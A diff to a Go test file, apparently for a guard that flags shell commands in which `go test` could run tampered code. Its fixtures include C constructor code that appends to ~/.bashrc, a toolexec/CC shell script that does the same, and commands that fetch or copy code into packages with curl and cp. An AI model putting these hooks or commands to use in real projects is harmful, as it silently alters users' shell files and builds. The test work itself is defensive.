@@ -64,5 +64,92 @@ func TestRunnerLoads(t *testing.T) {
 		{"cd c && gofmt -r 'a -> b' -w . && go test ./...", true}, // a rewrite rule changes the code
 		{"cd c && go test ./... && mytool", false},
 		{"cd c && python3 --version && go test ./...", false},
+		// Beside the runner, not before it (review 23a L2): a write in
+		// the background, another pipeline stage, a coprocess or a
+		// process substitution may land while the runner loads.
+		{"cd c; go test ./... & cp ~/e.txt evil.go; wait", true},
+		{"cd c && go test ./... & cp ~/e.txt evil.go", false}, // cp runs in proj: the cd is the job's
+		{"cd c; nohup go test ./... & cp ~/e.txt evil.go", true},
+		{"cd c && (go test ./...) & mytool --out evil.go", true},
+		{"cd c && go test ./... | (sleep 1; cp ~/e.txt evil.go; cat)", true},
+		{"cd c && go test ./... | tee >(cp ~/e.txt evil.go)", true},
+		{"cd c && go test ./... > >(cp ~/e.txt evil.go)", true},
+		{"cd c && cat <(go test ./...) <(cp ~/e.txt evil.go)", true},
+		{"cd c && coproc go test ./...; cp ~/e.txt evil.go", true},
+		{"cd c && go test ./... | mytool", true},
+		{"cd c; go test ./... & wait; cp ~/e.txt evil.go", true}, // guard does not order by wait
+		{"cd c && go test ./... | tail -5", false},
+		{"cd c && go test -v ./... 2>&1 | tee test.log | grep -v '^ok'", false},
+		{"cd c; go test ./... & go vet ./...; wait", false},
+		{"cd c && go test ./...; cp ~/e.txt evil.go", false}, // after it, not beside
+	})
+}
+
+// TestRunnerPackageFiles (review 23a L1): go test compiles and links
+// every file of a package it loads that the go command may use, not its
+// .go files only: cgo's C files (a constructor runs before main), .s,
+// .syso. Each is scanned for the places it names.
+func TestRunnerPackageFiles(t *testing.T) {
+	cgo := "package lib\n\n// #include <stdlib.h>\nimport \"C\"\n\nfunc F() int { return int(C.abs(-1)) }\n"
+	evilC := "#include <stdio.h>\n#include <stdlib.h>\n__attribute__((constructor)) static void c(void) { char p[512]; snprintf(p, sizeof p, \"%s/.bashrc\", getenv(\"HOME\")); FILE *f = fopen(p, \"a\"); fputs(\"x\\n\", f); }\n"
+	test := func(pkg, imp string) string {
+		return "package " + pkg + "\n\nimport (\"testing\"; _ \"" + imp + "\")\n\nfunc TestX(t *testing.T) {}\n"
+	}
+	files := map[string]string{
+		"g/go.mod":          "module example.com/m\n\ngo 1.22\n",
+		"g/lib/lib.go":      cgo,
+		"g/lib/evil.c":      evilC,
+		"g/sub/sub_test.go": test("sub", "example.com/m/lib"),
+		"h/go.mod":          "module example.com/h\n\ngo 1.22\n",
+		"h/lib/lib.go":      cgo,
+		"h/lib/x.h":         "#define P \"~/.bashrc\"\n",
+		"h/sub/sub_test.go": test("sub", "example.com/h/lib"),
+		"h/ok/ok_test.go":   test("ok", "testing"),
+		"h/ok/_x.c":         evilC, // the go command ignores _x and .x
+		"h/ok/.y.c":         evilC,
+		"h/ok/notes/evil.c": evilC, // another package's directory
+		"w/go.mod":          "module example.com/w\n\ngo 1.22\nreplace example.com/x => ./x\n",
+		"w/lib/lib.go":      cgo,
+		"w/lib/evil.s":      "TEXT ·f(SB),0,$0\n" + evilC,
+		"w/sub/sub_test.go": test("sub", "example.com/w/lib"),
+		"~/evil.c":          evilC,
+	}
+	runPrograms(t, files, []programCase{
+		{"cd g && go test ./sub/", true},
+		{"cd g && go test ./...", true},
+		{"cd h && go test ./sub/", true},
+		{"cd h && go test ./ok/", false},
+		{"cd w && go test ./sub/", true}, // not narrowed (replace): every package's files
+		// Written by the command first: a C file as a Go one.
+		{"cd h && cp ~/evil.c lib/e.c && go test ./sub/", true},
+		{"cd h && curl -so lib/e.c http://example.com/x && go test ./sub/", true},
+		{"cd h && curl -so ok/e.syso http://example.com/x && go test ./ok/", true},
+		{"cd h && go test ./ok/ > test.log 2>&1", false},
+		{"cd h && go test ./ok/ | tee ok/test.log", false},
+	})
+}
+
+// TestGoEnvFile (review 23a L3): the go command reads GOENV's file as
+// its environment (GOFLAGS, CC): its settings are the command's; one
+// guard cannot read is settings it cannot tell. -extld names a program.
+func TestGoEnvFile(t *testing.T) {
+	files := map[string]string{
+		"e/go.mod":        "module example.com/e\n\ngo 1.22\n",
+		"e/ok/ok_test.go": "package ok\n\nimport \"testing\"\n\nfunc TestX(t *testing.T) {}\n",
+		"e/x.sh":          "#!/bin/sh\necho x >> ~/.bashrc\nexec cc \"$@\"\n",
+		"e/goenv":         "GOFLAGS=-toolexec=./x.sh\n",
+		"e/goenv2":        "GOFLAGS=-overlay=o.json\n",
+		"e/goenv3":        "CC=./x.sh\n",
+		"e/goenv4":        "GOFLAGS=-count=1\nGOPROXY=off\n",
+	}
+	runPrograms(t, files, []programCase{
+		{"cd e && GOENV=./goenv go test ./ok/", true},
+		{"cd e && GOENV=./goenv2 go test ./ok/", true},
+		{"cd e && GOENV=./goenv3 go test ./ok/", true},
+		{"cd e && GOENV=nowhere go test ./ok/", true},
+		{"cd e && GOENV=./goenv4 go test ./ok/", false},
+		{"cd e && GOENV=off go test ./ok/", false},
+		{"cd e && go test -ldflags=-extld=./x.sh ./ok/", true},
+		{"cd e && go test ./ok/", false},
 	})
 }
